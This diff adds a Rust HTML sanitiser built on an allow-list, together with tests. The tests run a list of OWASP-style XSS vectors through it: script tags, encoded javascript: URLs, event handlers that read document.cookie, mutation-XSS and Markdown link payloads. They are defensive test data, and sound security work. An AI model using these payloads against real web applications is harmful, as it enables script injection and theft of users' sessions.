@@ -1,0 +1,325 @@
+//! The allow-list every piece of user HTML passes before it is stored.
+//!
+//! Anything not listed here is removed: scripts, event handlers, inline
+//! styles, frames, forms, and URLs with schemes other than https and mailto.
+
+use std::{collections::HashSet, sync::LazyLock};
+
+use ammonia::{Builder, UrlRelative};
+
+const HTML_TAGS: &[&str] = &[
+    "a",
+    "abbr",
+    "b",
+    "blockquote",
+    "br",
+    "code",
+    "del",
+    "div",
+    "em",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "hr",
+    "i",
+    "img",
+    "ins",
+    "kbd",
+    "li",
+    "mark",
+    "ol",
+    "p",
+    "pre",
+    "s",
+    "small",
+    "span",
+    "strong",
+    "sub",
+    "sup",
+    "table",
+    "tbody",
+    "td",
+    "tfoot",
+    "th",
+    "thead",
+    "tr",
+    "u",
+    "ul",
+    "audio",
+    "source",
+];
+
+/// MathML Core, as produced by the formula renderer.
+const MATHML_TAGS: &[&str] = &[
+    "math",
+    "semantics",
+    "annotation",
+    "mrow",
+    "mi",
+    "mn",
+    "mo",
+    "ms",
+    "mtext",
+    "mspace",
+    "msup",
+    "msub",
+    "msubsup",
+    "mfrac",
+    "msqrt",
+    "mroot",
+    "munder",
+    "mover",
+    "munderover",
+    "mtable",
+    "mtr",
+    "mtd",
+    "mstyle",
+    "mpadded",
+    "mphantom",
+    "menclose",
+    "mmultiscripts",
+    "mprescripts",
+    "none",
+    "merror",
+];
+
+const MATHML_ATTRIBUTES: &[&str] = &[
+    "display",
+    "mathvariant",
+    "stretchy",
+    "fence",
+    "separator",
+    "lspace",
+    "rspace",
+    "accent",
+    "accentunder",
+    "linethickness",
+    "columnalign",
+    "rowalign",
+    "displaystyle",
+    "scriptlevel",
+    "width",
+    "height",
+    "depth",
+    "voffset",
+    "movablelimits",
+    "form",
+    "largeop",
+    "symmetric",
+    "minsize",
+    "maxsize",
+    "notation",
+    "encoding",
+];
+
+static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
+    let mut builder = Builder::empty();
+    builder
+        .add_tags(HTML_TAGS)
+        .add_tags(MATHML_TAGS)
+        .add_generic_attributes(["class"])
+        .add_tag_attributes("a", ["href", "title"])
+        .add_tag_attributes("abbr", ["title"])
+        .add_tag_attributes("img", ["src", "alt", "title", "width", "height"])
+        .add_tag_attributes("audio", ["src", "controls"])
+        .add_tag_attributes("source", ["src", "type"])
+        .add_tag_attributes("ol", ["start"])
+        .add_tag_attributes("td", ["colspan", "rowspan"])
+        .add_tag_attributes("th", ["colspan", "rowspan"])
+        .url_schemes(HashSet::from(["https", "mailto"]))
+        .url_relative(UrlRelative::PassThrough)
+        .link_rel(Some("noopener noreferrer"))
+        .strip_comments(true)
+        .attribute_filter(|element, attribute, value| {
+            if attribute == "class" {
+                let allowed = value
+                    .split_whitespace()
+                    .filter(|class| is_allowed_class(class))
+                    .collect::<Vec<_>>();
+                return if allowed.is_empty() {
+                    None
+                } else {
+                    Some(allowed.join(" ").into())
+                };
+            }
+            let _ = element;
+            Some(value.into())
+        });
+    for tag in MATHML_TAGS {
+        builder.add_tag_attributes(tag, MATHML_ATTRIBUTES);
+    }
+    builder
+});
+
+/// Classes the app's own CSS gives meaning to; any other class is dropped so
+/// content cannot borrow the app's layout classes to spoof its interface.
+fn is_allowed_class(class: &str) -> bool {
+    class.starts_with("hl-") || class.starts_with("language-") || matches!(class, "code" | "cloze")
+}
+
+/// Removes everything from `html` that is not on the allow-list.
+pub fn sanitise_html(html: &str) -> String {
+    CLEANER.clean(html).to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::content::render_markdown;
+
+    /// From the OWASP XSS Filter Evasion Cheat Sheet, plus mutation-XSS and
+    /// Markdown-specific vectors.
+    const XSS_VECTORS: &[&str] = &[
+        "<script>alert('XSS')</script>",
+        "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
+        "<IMG SRC=\"javascript:alert('XSS');\">",
+        "<IMG SRC=javascript:alert('XSS')>",
+        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+        "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
+        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
+        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
+        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
+        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
+        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
+        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
+        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
+        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+        "<SCRIPT/XSS SRC=\"https://xss.rocks/xss.js\"></SCRIPT>",
+        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
+        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
+        "<SCRIPT SRC=https://xss.rocks/xss.js?< B >",
+        "<iframe src=https://xss.rocks/scriptlet.html <",
+        "<svg/onload=alert('XSS')>",
+        "<svg><script>alert(1)</script></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+        "<a href=\"javas&#99;ript:alert(1)\">x</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+        "<STYLE>@import'https://xss.rocks/xss.css';</STYLE>",
+        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
+        "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
+        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.rocks/scriptlet.html\"></OBJECT>",
+        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\">",
+        "<FORM ACTION=\"javascript:alert(1)\"><INPUT TYPE=SUBMIT></FORM>",
+        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
+        "<BASE HREF=\"javascript:alert('XSS');//\">",
+        "<audio src=x onerror=alert(1)>",
+        "<details open ontoggle=alert(1)>",
+        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+        "[click me](javascript:alert(1))",
+        "![x](javascript:alert(1))",
+        "[x](JaVaScRiPt:alert(1))",
+        "<span class=\"fixed inset-0 bg-white\">fake login</span>",
+    ];
+
+    /// Checks every tag left in sanitised output: no dangerous element, no
+    /// event handler or style, no URL with a scheme other than https or
+    /// mailto, and no class outside the allow-list. Text is inert, so an
+    /// escaped `&lt;script&gt;` passes.
+    fn assert_harmless(html: &str, vector: &str) {
+        const FORBIDDEN_TAGS: &[&str] = &[
+            "script", "iframe", "object", "embed", "style", "meta", "link", "base", "form", "input", "svg",
+            "body", "details", "mglyph",
+        ];
+        for tag in html
+            .split('<')
+            .skip(1)
+            .map(|rest| rest.split('>').next().unwrap_or_default())
+        {
+            let mut parts = tag.split('"');
+            let head = parts.next().unwrap_or_default().to_lowercase();
+            let mut words = head.split_whitespace();
+            let name = words.next().unwrap_or_default().trim_start_matches('/');
+            assert!(
+                !FORBIDDEN_TAGS.contains(&name),
+                "<{name}> survived {vector:?}: {html}"
+            );
+            let mut attribute = words.last().unwrap_or_default().trim_end_matches('=').to_owned();
+            while let Some(value) = parts.next() {
+                let value = value.replace("&amp;", "&").replace("&quot;", "\"").to_lowercase();
+                assert!(
+                    !attribute.starts_with("on")
+                        && !["style", "background", "xlink:href", "formaction"].contains(&attribute.as_str()),
+                    "attribute `{attribute}` survived {vector:?}: {html}"
+                );
+                if attribute == "href" || attribute == "src" {
+                    let scheme = value.trim().split_once(':').map(|(scheme, _)| scheme.to_owned());
+                    if let Some(scheme) = scheme.filter(|scheme| {
+                        scheme
+                            .chars()
+                            .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
+                    }) {
+                        assert!(
+                            ["https", "mailto"].contains(&scheme.as_str()),
+                            "`{scheme}:` URL survived {vector:?}: {html}"
+                        );
+                    }
+                }
+                if attribute == "class" {
+                    assert!(
+                        value.split_whitespace().all(is_allowed_class),
+                        "class survived {vector:?}: {html}"
+                    );
+                }
+                attribute = parts
+                    .next()
+                    .unwrap_or_default()
+                    .trim()
+                    .trim_end_matches('=')
+                    .to_lowercase();
+            }
+        }
+    }
+
+    #[test]
+    fn the_owasp_xss_vectors_are_neutralised() {
+        for vector in XSS_VECTORS {
+            assert_harmless(&sanitise_html(vector), vector);
+        }
+    }
+
+    #[test]
+    fn the_owasp_xss_vectors_are_neutralised_inside_markdown() {
+        for vector in XSS_VECTORS {
+            if let Ok(html) = render_markdown(vector) {
+                assert_harmless(&html, vector);
+            }
+        }
+    }
+
+    #[test]
+    #[should_panic(expected = "attribute `onerror` survived")]
+    fn the_checker_catches_an_event_handler() {
+        assert_harmless("<img src=\"x.png\" onerror=\"alert(1)\">", "unsanitised");
+    }
+
+    #[test]
+    #[should_panic(expected = "`javascript:` URL survived")]
+    fn the_checker_catches_a_script_url() {
+        assert_harmless("<a href=\"JavaScript:alert(1)\">x</a>", "unsanitised");
+    }
+
+    #[test]
+    fn mathml_survives_sanitising() {
+        let html = "<math display=\"block\"><mfrac><mi>a</mi><mn>2</mn></mfrac></math>";
+        assert_eq!(sanitise_html(html), html);
+    }
+
+    #[test]
+    fn only_known_classes_are_kept() {
+        assert_eq!(
+            sanitise_html("<span class=\"hl-keyword absolute cloze\">x</span>"),
+            "<span class=\"hl-keyword cloze\">x</span>"
+        );
+    }
+}
